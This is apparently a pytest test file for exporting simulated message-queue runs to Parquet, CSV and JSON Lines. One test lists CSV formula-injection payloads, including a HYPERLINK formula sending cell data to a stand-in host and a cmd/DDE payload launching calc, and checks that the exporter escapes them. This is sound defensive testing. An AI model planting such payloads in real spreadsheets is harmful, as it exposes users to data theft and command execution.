"""A run as Parquet, CSV and JSON Lines: the same rows in each, made a chunk at a time."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet
import pytest
from django.core.management import CommandError, call_command
from django.db.models import F

from flows.models import Execution
from flows.runs import exports, reading
from flows.runs.bounds import Bound
from flows.traces import chunk as codec
from flows.traces.tables import TABLES, Table
from tests.runs.conftest import SECOND

pytestmark = pytest.mark.django_db(databases=["default", "checkpoints"])


@pytest.fixture
def ended(an_execution, send, run):
    execution = an_execution()
    send(execution, count=1_200)
    return run(execution, "until", 200 * SECOND, bound=lambda: Bound(records=700))


def read(execution, table, form):
    pieces = list(exports.export(execution, table, form))
    assert all(pieces)
    content = b"".join(pieces)
    if form == "jsonl":
        return [json.loads(line) for line in content.splitlines()]
    if form == "parquet":
        return pyarrow.parquet.read_table(io.BytesIO(content)).to_pylist()
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_a_record_is_a_row_with_its_sentence(ended):
    rows = read(ended, "records", "jsonl")
    assert [row["sequence"] for row in rows] == list(range(1, ended.head + 1))
    sent = next(row for row in rows if row["kind"] == "MessageSent")
    assert (sent["service"], sent["node"], sent["at"], sent["time"]) == (
        "sqs",
        "Orders",
        0,
        "2026-01-01T00:00:00.000000Z",
    )
    assert sent["sentence"] == "Sent to orders; visible at once."
    assert set(sent) == set(TABLES["records"].columns)


@pytest.mark.parametrize("table", TABLES)
def test_every_format_has_the_same_rows(ended, table):
    lines = read(ended, table, "jsonl")
    flat = [
        {name: json.dumps(v, separators=(",", ":")) if isinstance(v, dict) else v for name, v in row.items()}
        for row in lines
    ]
    assert lines
    assert read(ended, table, "parquet") == flat
    assert read(ended, table, "csv") == [{name: str(value) for name, value in row.items()} for row in flat]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil/"&A1;"more")', '\'=HYPERLINK("http://evil/"&A1;"more")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a;=1+1", "a;=1+1"),
        ("-12.5e-3", "-12.5e-3"),
        ("+4915123", "+4915123"),
        ("- a list", "'- a list"),
        ('{"n": -1}', '{"n": -1}'),
        ("", ""),
    ],
)
def test_a_text_is_no_formula_in_a_spreadsheet_and_a_number_stays_one(text, cell):
    table = Table({"text": str, "number": int}, lambda _: iter(()))
    content = b"".join(exports.FORMATS["csv"].write(table, [[(text, -7)]])).decode()
    assert content.startswith('"text","number"\r\n"')
    assert content.endswith(",-7\r\n")
    assert list(csv.DictReader(io.StringIO(content, newline=""))) == [{"text": cell, "number": "-7"}]


def test_a_journey_is_a_message_with_all_its_copies(ended):
    records, rows = read(ended, "records", "jsonl"), read(ended, "journeys", "jsonl")
    assert len(rows) == 1_200
    poison = next(row for row in rows if row["copies"] > 1)
    of_it = [record for record in records if record["root"] == poison["subject"]]
    assert (poison["first_at"], poison["last_at"], poison["records"]) == (of_it[0]["at"], of_it[-1]["at"], len(of_it))
    assert (poison["last_kind"], poison["last_node"]) == ("DeadLetterArrived", "OrdersDlq")
    assert poison["length"] == poison["last_at"] - poison["first_at"]
    assert poison["attempts"] == max(record["attempt"] for record in of_it)


def test_dead_letters_come_with_their_story_and_their_text(ended):
    rows = read(ended, "dead-letters", "jsonl")
    assert {(row["node"], row["source"], row["state"], row["attempts"]) for row in rows} == {
        ("OrdersDlq", "Orders", "visible", 3)
    }
    assert sum("poison" in json.loads(row["body"]) for row in rows) == 120
    assert {row["error_type"] for row in rows} <= {"PoisonMessage", "Declined", "Error"}
    assert [row["at"] for row in rows] == sorted((row["at"] for row in rows), reverse=True)


def test_no_more_is_decoded_than_what_goes_out_next(ended, monkeypatch):
    decoded = []
    monkeypatch.setattr(exports, "decode", lambda frame: decoded.append(1) or codec.decode(frame))
    pieces = exports.export(ended, "records", "jsonl")
    next(pieces)
    assert len(decoded) == 1
    next(pieces)
    assert len(decoded) == 2


def test_what_comes_after_the_beginning_is_left_out_and_a_truncation_ends_the_file(ended, send, run):
    before = Execution.objects.get(pk=ended.pk)
    run(ended, "until", 400 * SECOND)
    send(ended, at=390 * SECOND, count=3, rate=None)
    assert len(read(before, "records", "jsonl")) == before.head
    Execution.objects.filter(pk=ended.pk).update(generation=F("generation") + 1)
    with pytest.raises(exports.CutOff):
        list(exports.export(before, "records", "jsonl"))


def test_a_run_without_records_is_a_table_without_rows(an_execution):
    execution = an_execution()
    for form in exports.FORMATS:
        assert read(execution, "records", form) == []


def test_the_command_writes_a_file(ended, tmp_path, capsys):
    path = tmp_path / "run.csv"
    call_command("export", str(ended.pk), "--table", "journeys", "--format", "csv", "--output", str(path))
    assert capsys.readouterr().out == f"{path}: {path.stat().st_size:,} bytes\n"
    assert path.read_bytes() == b"".join(exports.export(ended, "journeys", "csv"))
    with pytest.raises(CommandError, match="There is no execution"):
        call_command("export", "00000000-0000-0000-0000-00000000dead")
    assert reading.status(ended.pk).head == ended.head
